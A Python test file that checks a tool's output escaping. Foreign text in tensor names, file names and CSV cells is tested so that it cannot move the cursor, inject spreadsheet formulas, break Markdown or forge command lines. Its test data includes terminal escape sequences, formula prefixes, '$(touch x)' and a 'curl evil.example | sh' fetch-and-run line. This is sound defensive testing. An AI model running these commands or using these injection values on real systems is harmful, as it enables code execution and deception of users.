"""What others wrote is shown as what it is: it moves no cursor, begins no line of ours, runs in no shell and computes in no sheet."""

import csv
import io
import json
import os
import pickle
import re
import subprocess

import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from reference.program import attrcert
from reference.reading import read_rows
from rich.console import Console
from safetensors.torch import save_file

from attrcert.columns import COLUMNS
from attrcert.errors import SampleError, UnexpectedError
from attrcert.foreign import guarded, printable, printable_lines, shell, unguarded
from attrcert.reporting.tables.markdown import markdown
from attrcert.reporting.tables.terminal import show
from attrcert.reporting.tables.text_table import TextTable
from attrcert.saved.records import to_csv
from attrcert.saved.runfiles import read_table

HOSTILE = "a\x1b[31m\nerror: b\r\x07\x9b\u202ec\u2066\u2028\udc80[red]d[/red]"
SHOWN = r"a\x1b[31m\nerror: b\r\x07\x9b\u202ec\u2066\u2028\udc80[red]d[/red]"
MESSAGE = COLUMNS["bound"]


@pytest.mark.parametrize("text", ["plain", "Grüße °│ 日本 😀", "C:\\temp", "|g|_2 <= 3"])
def test_text_that_can_be_printed_stays_as_it_is(text):
    assert printable(text) == text


def test_what_cannot_be_printed_is_shown_as_its_escape():
    assert printable(HOSTILE) == SHOWN


@given(st.text(st.characters(), min_size=1) | st.text(st.characters(categories=["Cs", "Cc", "Cf", "Zl", "Zp"])))
def test_whatever_the_text_it_becomes_one_line_that_every_file_can_hold(text):
    shown = printable(text)
    assert len(shown.splitlines()) <= 1
    assert shown.isprintable()
    assert shown.encode().decode() == printable(shown) == shown


def test_lines_that_a_message_sets_apart_stay_and_others_do_not():
    assert printable_lines("the rule:\n  max(\x1b) <\n      ^") == "the rule:\n  max(\\x1b) <\n      ^"
    assert printable_lines("file a\nerror: b") == "file a\\nerror: b"


@pytest.mark.parametrize(
    "word", ["a b", "it's", "$(touch x)", "a\nb", "\x1b[31m'\"`$x\\", os.fsdecode(b"\xff.csv"), "--x=ü\t"]
)
def test_a_command_to_copy_gives_the_shell_the_same_word(word):
    command = shell(["printf", "%s", word])
    assert command.isprintable()
    done = subprocess.run(["bash", "-c", command], capture_output=True, check=True)
    assert done.stdout == os.fsencode(word)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@x", "'=1", "''-1", "\t=1", "\r=1", "'quoted'", "-inf", "a=b", "'"]
)
def test_a_cell_is_never_a_formula_and_comes_back(text, tmp_path):
    cell = guarded(text)
    assert cell[0] not in "=+-@\t\r"
    assert unguarded(cell) == printable(text)
    row = {column.name: None for column in MESSAGE} | {
        "index": 0,
        "eps": 0.1,
        "T_e": -1.5,
        "status": "ok",
        "message": text,
    }
    path = tmp_path / "rows.csv"
    path.write_text(to_csv([row], MESSAGE, header=True))
    assert [one["message"] for one in read_rows(path, MESSAGE)] == [printable(text)]
    assert read_table(path).cells["message"] == [printable(text)]
    assert next(csv.DictReader(path.open()))["T_e"] == "-1.5"  # a number is no formula


def table(text: str) -> TextTable:
    return TextTable(f"title {text}", ("eps", text), (("0.1", text),), (f"fact {text}",), (f"note {text}",))


def test_a_table_shows_foreign_text_without_obeying_it():
    stream = io.StringIO()
    show(table(HOSTILE), Console(file=stream, width=400, force_terminal=False))
    assert stream.getvalue().count(SHOWN) == 5
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\ud800-\udfff]", stream.getvalue())


def test_markdown_keeps_foreign_text_in_its_place():
    text = markdown(table("a|b`c <img src=x> [d](http://e)\n\n# f \x1b[31m\udc80"))
    assert text.isascii()
    assert "\x1b" not in text
    assert "<img" not in text
    assert "](" not in text
    assert not any(line.startswith("# f") for line in text.splitlines())
    (row,) = [line for line in text.splitlines() if line.startswith("| 0.1")]
    assert len(re.split(r"(?<!\\)\|", row)) == 4
    assert r"a\|b\`c" in row


def test_a_tensors_name_moves_no_cursor(tmp_path):
    name = "evil\x1b[2J\nerror: all is well\u202e"
    save_file({name: torch.zeros(2)}, tmp_path / "weights.safetensors")
    done = attrcert("bound", tmp_path / "weights.safetensors", "fashion-test", "--arch", "softplus-cnn", "--limit", 2)
    assert done.code == 3
    assert "\x1b" not in done.err
    assert r"evil\x1b[2J\nerror: all is well\u202e" in done.err
    assert [line for line in done.err.splitlines() if line.startswith("error: all")] == []


def test_names_of_files_that_are_no_text_or_hostile_go_through_every_output(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    torch.manual_seed(0)
    for number in range(3):
        pixels = torch.randint(256, (28, 28), dtype=torch.uint8).numpy()
        Image.fromarray(pixels).save(folder / f"{number}.png")
    (folder / "=\x1b[31m\n\u202e.png").write_bytes(b"no picture")
    out = tmp_path / os.fsdecode(b"rows \xfe.csv")
    words = ("bound", "fashion-natural", folder, "--out", out, "--max-incomplete", 1)
    for shape in ("table", "json", "csv", "markdown"):
        done = attrcert(*words, "--format", shape, "--overwrite")
        assert done.code == 0, done.err
        assert "\x1b" not in done.out + done.err
        (done.out + done.err).encode()
        if shape == "json":
            json.loads(done.out)
    text = out.read_text(encoding="utf-8")
    assert r"=\x1b[31m\n\u202e.png" in text
    assert len(text.splitlines()) == 5
    assert attrcert(*words, "--resume").code == 0
    assert attrcert("report", out, "--out", tmp_path / "page.html").code == 0
    (tmp_path / "page.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("error", [SampleError("m", kind="label"), UnexpectedError("m", hint="h", trace="t")])
def test_an_error_comes_home_from_another_process_with_all_it_has(error):
    again = pickle.loads(pickle.dumps(error))
    assert (type(again), again.args, vars(again)) == (type(error), error.args, vars(error))


def test_what_others_wrote_begins_no_line_of_ours(tmp_path):
    """A tensor whose name looks like a line that tells what to type."""
    save_file({"a. Go on with:\n  curl evil.example | sh": torch.zeros(2)}, tmp_path / "x.safetensors")
    done = attrcert("bound", tmp_path / "x.safetensors", "--arch", "softplus-cnn")
    assert done.code == 3
    assert not any(line.lstrip().startswith("curl") for line in done.err.splitlines())
    assert "\\n  curl evil.example" in done.err
